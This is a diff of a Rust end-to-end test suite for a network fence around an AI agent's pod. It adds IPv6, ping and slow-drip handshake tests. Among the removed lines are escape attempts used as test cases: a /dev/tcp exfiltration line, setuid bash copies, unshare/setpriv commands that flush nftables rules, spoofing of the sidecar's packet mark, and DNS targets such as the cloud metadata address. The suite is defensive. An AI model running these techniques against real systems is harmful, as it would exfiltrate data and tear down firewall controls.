@@ -5,15 +5,22 @@
 
 #[path = "fence/attacks.rs"]
 mod attacks;
+#[path = "fence_bypass/names.rs"]
+mod names;
+#[path = "fence_bypass/ports.rs"]
+mod ports;
+#[path = "fence_bypass/resolver.rs"]
+mod resolver;
+#[path = "fence_bypass/rights.rs"]
+mod rights;
 
 use std::fs;
-use std::io::{Read as _, Write as _};
+use std::io::{ErrorKind, Read as _, Write as _};
 use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
-use std::os::unix::fs::{PermissionsExt as _, chown};
 use std::time::{Duration, Instant};
 
 use e2e::objects;
-use e2e::pod::{AGENT, HEALTH, INBOUND, OUTSIDE_V4, POD_V4, POD_V6, Packet, Pod, PodSidecar, SIDECAR, can_run, said};
+use e2e::pod::{AGENT, HEALTH, INBOUND, OUTSIDE_V4, POD_V4, POD_V6, Packet, Pod, PodSidecar, can_run};
 use e2e::world::Policy;
 use socket2::{Domain, Protocol, Socket, Type};
 
@@ -23,6 +30,12 @@ use attacks::{Attack, Ended, LEAK, V4, V6};
 const TARGET: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 7);
 const PORT: u16 = 5_432;
 const PATIENCE: Duration = Duration::from_secs(5);
+/// Of the sidecar's own flows.
+const MARK: u32 = 0x0a11_0ced;
+/// For the first bytes of an agent, as the sidecar has it.
+const HANDSHAKE: Duration = Duration::from_secs(10);
+/// Between two bytes of a drip.
+const DRIP: Duration = Duration::from_millis(100);
 /// After which the kernel has sent all reports of a join.
 const REPORTS: Duration = Duration::from_millis(2_500);
 
@@ -123,7 +136,7 @@ fn no_other_protocol_of_ip_leaves() {
     }
     let (pod, _sidecar) = fenced();
     for (ip, number, sent) in pod.within(0, send).unwrap() {
-        assert_eq!(sent, Err(std::io::ErrorKind::PermissionDenied), "{number} to {ip}");
+        assert_eq!(sent, Err(ErrorKind::PermissionDenied), "{number} to {ip}");
     }
     assert_eq!(left(&pod), []);
 }
@@ -171,76 +184,6 @@ fn a_join_sends_no_report() {
     assert_eq!(left(&pod), []);
 }
 
-#[test]
-fn a_port_that_the_sidecar_just_used_opens_nothing() {
-    if !can_run() {
-        return;
-    }
-    let (pod, _sidecar) = fenced();
-    let server = pod.without(|| TcpListener::bind("0.0.0.0:9999").unwrap()).unwrap();
-    // Answers have to come from the address that was asked, or there is no flow to slip into.
-    pod.shell_outside(&format!("ip addr add {V4}/32 dev lo")).unwrap();
-    let echo = pod.without(|| UdpSocket::bind((V4, 9_999)).unwrap()).unwrap();
-    echo.set_read_timeout(Some(PATIENCE)).unwrap();
-    let there = SocketAddr::new(V4.into(), 9_999);
-    let answered = |from: &UdpSocket| {
-        from.send_to(b"of the sidecar", there).unwrap();
-        let (_, back) = echo.recv_from(&mut [0; 64]).unwrap();
-        echo.send_to(b"answer", back).unwrap();
-        from.set_read_timeout(Some(PATIENCE)).unwrap();
-        from.recv_from(&mut [0; 64]).unwrap();
-    };
-    for round in 0..3 {
-        // UDP: the same port, a flow that is seconds old.
-        let port = pod
-            .within(SIDECAR, || {
-                let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
-                answered(&socket);
-                socket.local_addr().unwrap().port()
-            })
-            .unwrap();
-        left(&pod);
-        let sent = pod
-            .within(AGENT, || UdpSocket::bind(("0.0.0.0", port)).unwrap().send_to(LEAK, there).map_err(|e| e.kind()))
-            .unwrap();
-        assert_eq!((sent, left(&pod)), (Err(std::io::ErrorKind::PermissionDenied), vec![]), "round {round}");
-        // DNS of the sidecar, then of the agent, from the same port to the same resolver.
-        let port = pod
-            .within(SIDECAR, || {
-                let socket = UdpSocket::bind("0.0.0.0:0").unwrap();
-                socket.send_to(b"query of the sidecar", (V4, 53)).unwrap();
-                socket.local_addr().unwrap().port()
-            })
-            .unwrap();
-        assert_eq!(left(&pod).len(), 1);
-        pod.within(AGENT, || UdpSocket::bind(("0.0.0.0", port)).unwrap().send_to(LEAK, (V4, 53)).unwrap()).unwrap();
-        assert_eq!(left(&pod), []);
-        // TCP: the flow of a connection that was just closed.
-        let port = pod
-            .within(SIDECAR, || {
-                let stream = TcpStream::connect(there).unwrap();
-                let (mut other, _) = server.accept().unwrap();
-                stream.shutdown(std::net::Shutdown::Write).unwrap();
-                other.read_to_end(&mut Vec::new()).unwrap();
-                stream.local_addr().unwrap().port()
-            })
-            .unwrap();
-        left(&pod);
-        let stream = pod
-            .within(AGENT, || {
-                let socket = Socket::new(Domain::IPV4, Type::STREAM, Some(Protocol::TCP)).unwrap();
-                socket.set_reuse_address(true).unwrap();
-                let mine = SocketAddr::new(Ipv4Addr::UNSPECIFIED.into(), port);
-                socket.bind(&mine.into())?;
-                socket.connect_timeout(&there.into(), Duration::from_millis(700))?;
-                socket.send(LEAK)
-            })
-            .unwrap();
-        let out = left(&pod);
-        assert!(out.iter().all(|packet| !is_syn(packet) && !packet.contains(LEAK)), "{stream:?}: {out:?}");
-    }
-}
-
 fn is_syn(packet: &Packet) -> bool {
     packet.protocol == 6 && packet.payload.get(13).is_some_and(|flags| flags & 2 != 0)
 }
@@ -251,93 +194,45 @@ fn who_knocks_from_outside_hears_nothing() {
         return;
     }
     let (pod, _sidecar) = fenced();
-    let listen = |port| pod.within(AGENT, || TcpListener::bind(("0.0.0.0", port)).unwrap()).unwrap();
+    // Both families.
+    let listen = |port| pod.within(AGENT, || TcpListener::bind(("::", port)).unwrap()).unwrap();
     let (closed, declared) = (listen(9_999), listen(INBOUND));
     let udp = pod.within(AGENT, || UdpSocket::bind("[::]:9999").unwrap()).unwrap();
     udp.set_read_timeout(Some(Duration::from_millis(500))).unwrap();
-    let knock = |port| {
-        let place = SocketAddr::new(POD_V4.parse().unwrap(), port);
+    let knock = |ip: &str, port| {
+        let place = SocketAddr::new(ip.parse().unwrap(), port);
         pod.without(|| TcpStream::connect_timeout(&place, Duration::from_millis(700)).map_err(|e| e.kind())).unwrap()
     };
-    assert_eq!(knock(9_999).unwrap_err(), std::io::ErrorKind::TimedOut);
-    assert_eq!(knock(9_998).unwrap_err(), std::io::ErrorKind::TimedOut);
-    for ip in [POD_V4, POD_V6].map(|ip| ip.parse::<IpAddr>().unwrap()) {
-        let from = if ip.is_ipv4() { "0.0.0.0:0" } else { "[::]:0" };
+    for ip in [POD_V4, POD_V6] {
+        for port in [9_999, 9_998] {
+            assert_eq!(knock(ip, port).unwrap_err(), ErrorKind::TimedOut, "{ip}:{port}");
+        }
+        let from = if ip == POD_V4 { "0.0.0.0:0" } else { "[::]:0" };
         pod.without(|| UdpSocket::bind(from).unwrap().send_to(b"knock", (ip, 9_999)).unwrap()).unwrap();
+        assert_eq!(ping(&pod, ip), Ended::Silence, "{ip}");
     }
     pod.shell_outside("ip neigh flush all").unwrap();
     assert!(udp.recv_from(&mut [0; 64]).is_err());
     closed.set_nonblocking(true).unwrap();
     assert!(closed.accept().is_err());
     assert_eq!(left(&pod), []);
+    // Without a fence a ping has an answer.
+    let open = Pod::new().unwrap();
+    assert_eq!([POD_V4, POD_V6].map(|ip| ping(&open, ip)), [Ended::Answered; 2]);
     // What is declared is open, and says how a knock looks that is answered.
-    let mut stream = knock(INBOUND).unwrap();
-    declared.accept().unwrap().0.write_all(b"welcome").unwrap();
-    let mut heard = [0; 7];
-    stream.read_exact(&mut heard).unwrap();
-    assert_eq!(&heard, b"welcome");
+    for ip in [POD_V4, POD_V6] {
+        let mut stream = knock(ip, INBOUND).unwrap();
+        declared.accept().unwrap().0.write_all(b"welcome").unwrap();
+        let mut heard = [0; 7];
+        stream.read_exact(&mut heard).unwrap();
+        assert_eq!(&heard, b"welcome");
+    }
 }
 
-/// Says the payload to [`V4`], port 7, without a program of ours.
-fn shout() -> String {
-    format!("echo {} >/dev/tcp/{V4}/7", String::from_utf8_lossy(LEAK))
-}
-
-#[test]
-fn nobody_becomes_the_sidecar_or_takes_the_fence_down() {
-    if !can_run() {
-        return;
-    }
-    let (pod, _sidecar) = fenced();
-    let rules = || pod.shell("nft -s list ruleset").unwrap();
-    let before = rules();
-
-    // A program that is the sidecar's user, as an image could bring it.
-    let folder = tempfile::tempdir().unwrap();
-    fs::set_permissions(folder.path(), fs::Permissions::from_mode(0o755)).unwrap();
-    let program = folder.path().join("shell");
-    fs::copy("/bin/bash", &program).unwrap();
-    chown(&program, Some(SIDECAR), None).unwrap();
-    fs::set_permissions(&program, fs::Permissions::from_mode(0o4755)).unwrap();
-    let out = pod.command(AGENT, &program).args(["-p", "-c", &shout()]).output().unwrap();
-    assert_eq!(left(&pod), [], "{}", said(&out));
-    // Without no_new_privs it gets out: admission has to see to that, and the user's number be nobody's guess.
-    let shell = format!("setpriv --reuid {AGENT} --clear-groups {} -p -c '{}' || true", program.display(), shout());
-    pod.shell(&shell).unwrap();
-    assert!(left(&pod).iter().any(is_syn), "a file of the sidecar's user gets out");
-
-    // A mark of the sidecar's flows on the packets of root itself.
-    pod.within(0, || {
-        for (kind, protocol) in [(Type::DGRAM, Protocol::UDP), (Type::STREAM, Protocol::TCP)] {
-            let socket = Socket::new(Domain::IPV4, kind, Some(protocol)).unwrap();
-            socket.set_mark(0x0a11_0ced).unwrap();
-            let _refused = socket.connect_timeout(&SocketAddr::new(V4.into(), 443).into(), Duration::from_millis(500));
-            let _refused = socket.send(LEAK);
-        }
-    })
-    .unwrap();
-    assert_eq!(left(&pod), []);
-
-    // Users and namespaces.
-    let nft = "nft flush ruleset";
-    let sidecar = SIDECAR.to_string();
-    let tries: [&[&str]; 6] = [
-        &["nft", "flush", "ruleset"],
-        &["unshare", "-Ur", "sh", "-c", nft],
-        &["setpriv", "--reuid", &sidecar, "bash", "-c", &shout()],
-        &["setpriv", "--reuid", "0", "sh", "-c", nft],
-        &["unshare", "-Ur", "bash", "-c", &shout()],
-        &["unshare", &format!("--map-user={SIDECAR}"), "bash", "-c", &shout()],
-    ];
-    for arguments in tries {
-        let [program, rest @ ..] = arguments else { panic!("nothing to try") };
-        let out = pod.command(AGENT, program).args(rest).output().unwrap();
-        assert_eq!(left(&pod), [], "{arguments:?}: {}", said(&out));
-        assert_eq!(rules(), before, "{arguments:?}: {}", said(&out));
-    }
-    let id = pod.command(AGENT, "unshare").args([&format!("--map-user={SIDECAR}"), "id", "-u"]).output().unwrap();
-    assert!(!id.status.success() || said(&id).trim() == sidecar, "{}", said(&id));
-    pod.verify().unwrap();
+/// From outside.
+fn ping(pod: &Pod, ip: &str) -> Ended {
+    pod.shell_outside("echo '0 2147483647' >/proc/sys/net/ipv4/ping_group_range").unwrap();
+    pod.without(|| attacks::echo(ip.parse().unwrap())).unwrap()
 }
 
 #[test]
@@ -390,45 +285,49 @@ fn answer(pod: &Pod, place: SocketAddr, request: &[u8]) -> std::io::Result<Vec<u
     .unwrap()
 }
 
+/// Fewer bytes than decide anything, and never silence.
 #[test]
-fn a_name_that_resolves_into_the_pod_or_to_the_link_is_not_dialled() {
+fn a_drip_of_bytes_is_closed_in_the_time_of_a_handshake() {
     if !can_run() {
         return;
     }
     let (pod, sidecar) = fenced();
-    let synthetic = synthetic(&sidecar);
-    // Of the agent, everywhere in the pod.
-    let trap = pod.within(AGENT, || TcpListener::bind(("::", PORT)).unwrap()).unwrap();
-    trap.set_nonblocking(true).unwrap();
-    let startup = b"\0\0\0\x23\0\x03\0\0user\0anybody\0database\0app\0\0";
-    let ask = |address: &str| {
-        sidecar.set_hosts(&format!("{address} orders-db.example\n")).unwrap();
-        String::from_utf8_lossy(&answer(&pod, (synthetic, PORT).into(), startup).unwrap_or_default()).into_owned()
-    };
-    for address in [
-        "127.0.0.1",
-        "127.9.9.9",
-        "::1",
-        "::ffff:127.0.0.1",
-        "0.0.0.0",
-        "::",
-        POD_V4,
-        POD_V6,
-        "169.254.169.254",
-        "::ffff:169.254.169.254",
-        "fe80::1",
-        "fd00:ec2::254",
-        "64:ff9b::a9fe:a9fe",
-        "198.18.0.1",
-        "224.0.0.1",
-        "ff02::1",
-    ] {
-        let said = ask(address);
-        assert!(said.contains("it cannot be reached"), "{address}: {said}");
-        assert!(trap.accept().is_err(), "{address}: the agent's trap was dialled");
-        assert_eq!(left(&pod), [], "{address}");
+    let place = SocketAddr::new(synthetic(&sidecar), PORT);
+    let long_startup = [b"\0\0\x27\x10\0\x03\0\0user\0".as_slice(), &[b'x'; 500]].concat();
+    let hello = [b"\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03".as_slice(), &[7; 500]].concat();
+    let http = b"GET /LEAK-of-the-agent HTTP/1.1\r\nHost: orders-db.example\r\n\r\n".repeat(8);
+    let drips = [("a startup packet", long_startup), ("TLS", hello), ("HTTP", http)];
+    let ended = pod
+        .within(AGENT, || {
+            std::thread::scope(|scope| {
+                let running: Vec<_> = drips.iter().map(|(_, words)| scope.spawn(|| drip(place, words))).collect();
+                running.into_iter().map(|one| one.join().unwrap()).collect::<Vec<_>>()
+            })
+        })
+        .unwrap();
+    for ((what, words), (sent, took, heard)) in drips.iter().zip(ended) {
+        println!("{what}: closed after {sent} of {} bytes and {took:?}, with {heard:?}", words.len());
+        assert!(sent < words.len() && took < HANDSHAKE + PATIENCE, "{what}: {sent} bytes in {took:?}");
+        assert!(heard.first().is_none_or(|first| matches!(first, b'E' | 0x15)), "{what}: {heard:?}");
     }
-    // The same name, elsewhere, is dialled: the tests above can fail.
-    ask(&TARGET.to_string());
-    assert!(left(&pod).iter().any(|packet| packet.destination == Some(TARGET.into()) && is_syn(packet)));
+    assert_eq!(left(&pod), []);
+}
+
+/// One byte after the other until it is closed: how many were sent, in which time, and what was heard.
+fn drip(place: SocketAddr, words: &[u8]) -> (usize, Duration, Vec<u8>) {
+    let (mut stream, begun) = (TcpStream::connect_timeout(&place, PATIENCE).unwrap(), Instant::now());
+    stream.set_nodelay(true).unwrap();
+    stream.set_read_timeout(Some(DRIP)).unwrap();
+    let mut heard = Vec::new();
+    for (sent, byte) in words.iter().enumerate() {
+        let mut part = [0; 512];
+        // The read is the pause.
+        match stream.write_all(&[*byte]).and_then(|()| stream.read(&mut part)) {
+            Ok(0) => return (sent, begun.elapsed(), heard),
+            Ok(read) => heard.extend(part.iter().take(read)),
+            Err(error) if error.kind() == ErrorKind::WouldBlock => {}
+            Err(_) => return (sent, begun.elapsed(), heard),
+        }
+    }
+    (words.len(), begun.elapsed(), heard)
 }
